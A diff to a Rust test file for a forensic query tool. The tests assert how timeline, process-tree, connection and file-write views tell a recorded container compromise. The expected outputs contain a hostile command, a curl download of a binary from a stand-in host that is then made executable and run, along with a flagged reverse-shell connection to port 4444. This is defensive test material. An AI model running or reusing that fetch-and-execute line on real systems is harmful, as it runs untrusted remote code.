@@ -3,38 +3,124 @@
 mod support;
 
 use support::{incident, rows};
+use taffrail_query::VIEWS;
 
 #[test]
-fn views_tell_the_incident_in_order() {
+fn the_timeline_tells_the_incident_in_order_without_being_asked_to_sort() {
     let (_dir, session) = incident();
-    let story = rows(
-        &session,
-        "SELECT date_part('second', time), kind, op, pid, summary, result FROM timeline WHERE op <> 'fork' AND coalesce(pid, 0) <> 5015",
-    );
-    let expected = "";
-    assert_eq!(story.join("\n"), expected);
+    let sql = "SELECT kind, op, pid, summary, result FROM timeline WHERE op <> 'fork' AND coalesce(pid, 0) <> 5015";
+    let expected = "\
+process | scan | 1 | running /sbin/init | null
+process | scan | 800 | running dockerd -H fd:// | null
+lifecycle | created | null | container created | null
+process | exec | 5000 | exec sh /entrypoint.sh | null
+process | exec | 5001 | exec httpd -f -p 8080 | null
+network | listen | 5001 | listen tcp [::]:8080 | 0
+file | open | 5001 | open /etc/httpd.conf | 0
+file | open | 5001 | open /etc/httpd.d/extra.conf (no such file) | -2
+network | accept | 5001 | accept tcp 203.0.113.9:40112 | 0
+process | exec | 5010 | exec sh -c 'curl -so /tmp/.part http://198.51.100.7/x && mv /tmp/.part /tmp/.x; chmod 755 /tmp/.x; /tmp/.x' | null
+finding | reverse_shell | 5010 | critical: sh runs with 203.0.113.9:40112 as its standard input | null
+process | exec | 5011 | exec curl -so /tmp/.part http://198.51.100.7/x | null
+network | connect | 5011 | connect tcp 198.51.100.7:80 | 0
+file | create | 5011 | create /tmp/.part | 0
+network | close | 5011 | close tcp 198.51.100.7:80 (sent 84, received 1482752 bytes) | 0
+process | exit | 5011 | exit 0: curl -so /tmp/.part http://198.51.100.7/x | null
+process | exec | 5012 | exec mv /tmp/.part /tmp/.x | null
+file | rename | 5012 | rename /tmp/.part -> /tmp/.x | 0
+process | exit | 5012 | exit 0: mv /tmp/.part /tmp/.x | null
+process | exec | 5013 | exec chmod 755 /tmp/.x | null
+file | chmod | 5013 | chmod 755 /tmp/.x | 0
+process | exit | 5013 | exit 0: chmod 755 /tmp/.x | null
+process | exec | 5014 | exec /tmp/.x | null
+network | connect | 5014 | connect tcp 127.0.0.1:4444 (refused) | -111
+network | connect | 5014 | connect tcp 198.51.100.7:4444 | 0
+file | unlink | 5014 | unlink /tmp/.x | 0
+gap | ring_full | null | 3 bulk events missing | null
+process | exit | 5014 | killed by signal 9: /tmp/.x | null
+process | exit | 5010 | exit 137: sh -c 'curl -so /tmp/.part http://198.51.100.7/x && mv /tmp/.part /tmp/.x; chmod 755 /tmp/.x; /tmp/.x' | null
+network | close | 5001 | close tcp 203.0.113.9:40112 (sent 512, received 301 bytes) | 0
+finding | manual | null | info: asked for by root | null";
+    assert_eq!(rows(&session, sql).join("\n"), expected);
 }
 
 #[test]
-fn tree() {
+fn the_process_tree_stands_depth_first_with_ancestors_and_ends() {
     let (_dir, session) = incident();
-    println!(
-        "{}",
-        rows(&session, "SELECT depth, tree, exit, in_container, path FROM process_tree WHERE origin <> 'fork'")
-            .join("\n")
-    );
-    println!(
-        "{}",
-        rows(
-            &session,
-            "SELECT direction, local, remote, state, bytes_sent, bytes_received, duration_ms, cmdline FROM connections"
-        )
-        .join("\n")
-    );
-    println!(
-        "{}",
-        rows(&session, "SELECT op, path, new_path, mode, flags, path_source, cmdline FROM file_writes").join("\n")
-    );
-    println!("{}", rows(&session, "SELECT * FROM coverage").join("\n"));
-    panic!();
+    let sql = "SELECT depth, tree, exit, in_container, path FROM process_tree WHERE origin <> 'fork' AND pid <> 5015";
+    let expected = "\
+0 | /sbin/init | null | false | init
+1 | └ dockerd -H fd:// | null | false | init > dockerd
+2 |   └ sh /entrypoint.sh | null | true | init > dockerd > sh
+3 |     └ httpd -f -p 8080 | null | true | init > dockerd > sh > httpd
+4 |       └ sh -c 'curl -so /tmp/.part http://198.51.100.7/x && mv /tmp/.part /tmp/.x; chmod 755 /tmp/.x; /tmp/.x' | 137 | true | init > dockerd > sh > httpd > sh
+5 |         └ curl -so /tmp/.part http://198.51.100.7/x | 0 | true | init > dockerd > sh > httpd > sh > curl
+5 |         └ mv /tmp/.part /tmp/.x | 0 | true | init > dockerd > sh > httpd > sh > mv
+5 |         └ chmod 755 /tmp/.x | 0 | true | init > dockerd > sh > httpd > sh > chmod
+5 |         └ /tmp/.x | signal 9 | true | init > dockerd > sh > httpd > sh > .x";
+    assert_eq!(rows(&session, sql).join("\n"), expected);
+}
+
+#[test]
+fn connections_say_who_talked_to_whom_and_how_it_ended() {
+    let (_dir, session) = incident();
+    let sql =
+        "SELECT direction, local, remote, state, bytes_sent, bytes_received, duration_ms, cmdline FROM connections";
+    let expected = "\
+null | [::]:8080 | null | listening | null | null | null | httpd -f -p 8080
+inbound | 172.17.0.2:8080 | 203.0.113.9:40112 | closed | 512 | 301 | 3200 | httpd -f -p 8080
+outbound | 172.17.0.2:51000 | 198.51.100.7:80 | closed | 84 | 1482752 | 450 | curl -so /tmp/.part http://198.51.100.7/x
+outbound | 127.0.0.1:51001 | 127.0.0.1:4444 | refused | 0 | 0 | 1 | /tmp/.x
+outbound | 172.17.0.2:51002 | 198.51.100.7:4444 | open | null | null | null | /tmp/.x";
+    assert_eq!(rows(&session, sql).join("\n"), expected);
+}
+
+#[test]
+fn file_writes_leave_reads_and_failures_out() {
+    let (_dir, session) = incident();
+    let expected = "\
+create | /tmp/.part | null | O_WRONLY|O_CREAT|O_TRUNC
+rename | /tmp/.part | /tmp/.x |\x20
+chmod | /tmp/.x | null |\x20
+unlink | /tmp/.x | null |\x20";
+    assert_eq!(rows(&session, "SELECT op, path, new_path, flags FROM file_writes").join("\n"), expected);
+}
+
+#[test]
+fn coverage_has_a_row_for_each_class_even_where_nothing_is_lost() {
+    let (_dir, session) = incident();
+    let sql = "SELECT class, coalesce(causes, '-') FROM coverage";
+    assert_eq!(rows(&session, sql), ["vital | -", "bulk | ring_full"]);
+}
+
+#[test]
+fn every_view_says_what_a_row_is() {
+    for view in VIEWS {
+        assert!(view.doc().starts_with("One row per "), "{}", view.name);
+    }
+}
+
+#[test]
+fn the_timeline_keeps_who_it_was_and_how_it_ended() {
+    let (_dir, session) = incident();
+    let failed = "SELECT time, op, comm, exe, result, bundle FROM timeline WHERE result < 0 AND comm = 'httpd'";
+    let expected = "2026-03-14T09:00:00.710000000Z | open | httpd | /bin/busybox | -2 | 0badcafe";
+    assert_eq!(rows(&session, failed), [expected]);
+    let joined = "SELECT p.cmdline FROM timeline t JOIN process p ON p.exec_id = t.exec_id WHERE t.op = 'unlink'";
+    assert_eq!(rows(&session, joined), ["/tmp/.x"]);
+}
+
+#[test]
+fn the_order_of_a_view_outlives_a_filter_and_a_limit() {
+    let (_dir, session) = incident();
+    let times = rows(&session, "SELECT time FROM timeline WHERE kind IN ('process', 'network') LIMIT 20");
+    assert_eq!(times.len(), 20);
+    assert!(times.is_sorted(), "{times:?}");
+    assert_eq!(times[0], "2026-03-14T08:43:20.010000000Z");
+}
+
+#[test]
+fn a_fork_that_ran_a_program_ended_as_itself() {
+    let (_dir, session) = incident();
+    assert_eq!(rows(&session, "SELECT DISTINCT exit FROM process_tree WHERE origin = 'fork'"), ["exec"]);
 }
